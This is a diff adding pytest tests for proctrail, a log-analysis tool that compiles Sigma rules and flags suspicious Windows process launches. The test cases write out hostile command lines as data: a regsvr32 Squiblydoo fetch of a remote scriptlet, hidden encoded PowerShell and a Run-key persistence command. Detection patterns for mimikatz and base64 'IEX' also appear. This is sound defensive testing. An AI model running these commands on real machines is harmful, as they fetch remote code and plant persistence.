@@ -1,0 +1,194 @@
+"""Detections: Sigma rules compiled by proctrail, SigmaHQ's regression cases, the built-in
+rules' true and false cases, and the detection pass over the demo and the samples."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+
+from proctrail.store.correlate import correlate
+from proctrail.store.db import open_engine
+from proctrail.store.detect.fields import sigma_fields
+from proctrail.store.detect.run import BUILTIN, detect
+from proctrail.store.detect.sigma import compile_rule, load_rules
+from proctrail.store.events import Event
+from proctrail.store.findings import add_finding, list_findings
+from proctrail.store.ingest import Ingestor
+from proctrail.store.queries import export_findings, export_processes
+from proctrail.store.readers.base import ReadOptions
+from proctrail.store.readers.sniff import iter_inputs, open_records
+
+ROOT = Path(__file__).resolve().parents[1]
+
+
+def rule(detection: str, product: str = "windows") -> object:
+    return compile_rule(f"""
+title: t
+id: 00000000-0000-0000-0000-000000000001
+logsource:
+    category: process_creation
+    product: {product}
+detection:
+{detection}
+level: high
+""")
+
+
+def test_modifiers_and_conditions() -> None:
+    r = rule("""
+    sel:
+        Image|endswith: '\\cmd.exe'
+        CommandLine|contains|all: ['/c', 'whoami']
+    re_sel:
+        CommandLine|re: 'who[a-z]{2}i'
+    win:
+        CommandLine|windash|contains: '-enc '
+    b64:
+        CommandLine|base64offset|contains: 'IEX'
+    net:
+        DestinationIp|cidr: '10.0.0.0/8'
+    condition: (sel and re_sel) or win or b64 or net
+""")
+    assert r.match({"Image": "C:\\WINDOWS\\CMD.EXE", "CommandLine": "cmd /C whoami"})
+    assert not r.match({"Image": "C:\\WINDOWS\\CMD.EXE", "CommandLine": "cmd /C WHOAMI"})
+    assert not r.match({"Image": "C:\\x\\cmd.exe", "CommandLine": "cmd /c dir"})
+    assert r.match({"CommandLine": "powershell /enc AAAA"})  # windash: - or /
+    assert r.match({"CommandLine": "x SUVYIC"})  # base64 of "IEX "
+    assert r.match({"DestinationIp": "10.2.3.4"}) and not r.match({"DestinationIp": "11.0.0.1"})
+    keywords = rule("""
+    keywords: ['mimikatz']
+    filter:
+        User: null
+    condition: keywords and not filter
+""")
+    assert keywords.match({"CommandLine": "x MimiKatz.exe", "User": "bob"})
+    assert not keywords.match({"CommandLine": "mimikatz"})  # User absent: null matches
+
+
+def test_sigmahq_regression_cases_all_fire(samples: Path) -> None:
+    """Each case names a rule and an EVTX the rule must fire on; all rules run at once."""
+    root = samples / "sigma"
+    rules, refused = load_rules([root / "rules"])
+    assert len(rules) > 1100
+    assert {r.reason for r in refused} == {"log source 'auditd' is not process creation"}
+    windows = [r for r in rules if r.product == "windows"]
+    fired_cases = missing = 0
+    for info in sorted((root / "regression_data").rglob("info.yml")):
+        meta = yaml.safe_load(info.read_text())
+        rule_id = meta["rule_metadata"][0]["id"]
+        for case in meta["regression_tests_info"]:
+            path = root / case["path"]
+            if not path.exists():
+                missing += 1  # listed in info.yml, not in the samples
+                continue
+            fired: set[str] = set()
+            (item,) = iter_inputs([str(path)])
+            with item.open() as stream:
+                _fmt, records = open_records(item, stream, ReadOptions())
+                for e in records:
+                    if isinstance(e, Event) and e.kind == "process_start":
+                        fields = sigma_fields(e.channel, e.event_id, e.fields)
+                        fired |= {r.id for r in windows if r.match(fields)}
+            assert rule_id in fired, (info.parent.name, rule_id)
+            fired_cases += 1
+    assert fired_cases >= 86 and missing <= 1
+
+
+BUILTIN_CASES = {
+    "Regsvr32 Runs a Remote or Scriptlet COM Object (Squiblydoo)": (
+        {"Image": r"C:\Windows\System32\regsvr32.exe",
+         "CommandLine": "regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll"},
+        {"Image": r"C:\Windows\System32\regsvr32.exe",
+         "CommandLine": 'regsvr32 /s /i:"C:\\Program Files\\App\\x.sct" x.dll'}),
+    "Command-line FTP Runs a Script File": (
+        {"Image": r"C:\Windows\System32\ftp.exe", "CommandLine": "ftp -s:C:\\Users\\x\\s.txt"},
+        {"Image": r"C:\Windows\System32\ftp.exe", "CommandLine": "ftp -s:c.txt",
+         "ParentImage": r"C:\Windows\CCM\CcmExec.exe"}),
+    "PowerShell With a Hidden Window or an Encoded Command": (
+        {"Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+         "CommandLine": "powershell.exe -NoP -WindowStyle Hidden -enc SQBFAFgA"},
+        {"Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+         "CommandLine": "powershell.exe -File C:\\scripts\\backup.ps1"}),
+    "Program Runs From a Folder That Holds No Programs": (
+        {"Image": r"C:\Users\Public\updater.exe"},
+        {"Image": r"C:\Users\bob\AppData\Local\Temp\{GUID}\DismHost.exe"}),
+    "Run Key Written With reg add": (
+        {"Image": r"C:\Windows\System32\reg.exe", "CommandLine":
+         r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d C:\u.exe"},
+        {"Image": r"C:\Windows\System32\reg.exe", "CommandLine":
+         r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDrive /d "
+         r"C:\Users\b\AppData\Local\Microsoft\OneDrive\OneDrive.exe"}),
+    "Office Application Starts a Shell or Script Host": (
+        {"ParentImage": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+         "Image": r"C:\Windows\System32\cmd.exe", "CommandLine": "cmd /c calc"},
+        {"ParentImage": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+         "Image": r"C:\Windows\splwow64.exe", "CommandLine": "splwow64.exe 8192"}),
+}
+
+
+def test_builtin_rules_true_and_false_cases() -> None:
+    rules, refused = load_rules([BUILTIN])
+    assert not refused and {r.title for r in rules} == set(BUILTIN_CASES)
+    for r in rules:
+        true_case, false_case = BUILTIN_CASES[r.title]
+        assert r.match(true_case), r.title
+        assert not r.match(false_case), r.title
+        assert r.tags and all(t.startswith("attack.") for t in r.tags)
+
+
+@pytest.fixture
+def demo(db_url: str):
+    engine = open_engine(db_url)
+    Ingestor(engine).run([str(ROOT / "sample_logs")])
+    correlate(engine)
+    return engine
+
+
+def test_detection_on_the_demo_marks_the_intrusion_once_per_process(demo) -> None:
+    add_finding(demo, "process", next(p["id"] for p in export_processes(demo)),
+                "an analyst's bookmark", author="ana")
+    for _ in range(2):  # a second pass replaces the first's findings
+        report = detect(demo)
+    assert report.rules == 6 and not report.refused
+    found = [f for f in export_findings(demo) if f["kind"] == "rule"]
+    by_image = {}
+    procs = {p["id"]: p for p in export_processes(demo)}
+    for f in found:
+        by_image.setdefault(f["rule_title"], set()).add(
+            procs[f["process_id"]]["image"].rsplit("\\", 1)[-1])
+    assert by_image == {
+        "Regsvr32 Runs a Remote or Scriptlet COM Object (Squiblydoo)": {"regsvr32.exe"},
+        "Command-line FTP Runs a Script File": {"ftp.exe"},
+        "PowerShell With a Hidden Window or an Encoded Command": {"powershell.exe"},
+        "Program Runs From a Folder That Holds No Programs": {"updater.exe"},
+        "Run Key Written With reg add": {"reg.exe"},
+        "Office Application Starts a Shell or Script Host": {"powershell.exe"}}
+    assert len(found) == 6  # 4688 and Sysmon 1 of one process: one finding
+    assert all(f["tags"] and f["level"] == "high" or f["level"] == "medium" for f in found)
+    assert [f.note for f in list_findings(demo) if f.kind == "bookmark"] == [
+        "an analyst's bookmark"]
+
+
+def test_detect_command_over_the_sigmahq_rules(demo, db_url: str, samples: Path) -> None:
+    script = Path(sys.executable).with_name("proctrail")
+    done = subprocess.run([str(script), "detect", "--db", db_url, "--rules",
+                           str(samples / "sigma/rules/windows/process_creation")],
+                          capture_output=True, text=True, timeout=600)
+    assert done.returncode == 0, done.stderr
+    first = done.stdout.splitlines()[0]
+    assert "refused" in first and "findings" in first
+    assert "Suspicious Microsoft Office Child Process" in done.stdout
+    out = subprocess.run([str(script), "export", "findings", "--db", db_url],
+                         capture_output=True, text=True, timeout=60)
+    records = [json.loads(line) for line in out.stdout.splitlines()]
+    assert records and set(records[0]) >= {"id", "kind", "rule_id", "rule_title", "level",
+                                           "host", "process_id", "session_id", "time",
+                                           "summary", "tags"}
+    bad = subprocess.run([str(script), "detect", "--db", db_url, "--rules", "/nonexistent"],
+                         capture_output=True, text=True)
+    assert bad.returncode == 2 and "no such rule file or folder" in bad.stderr
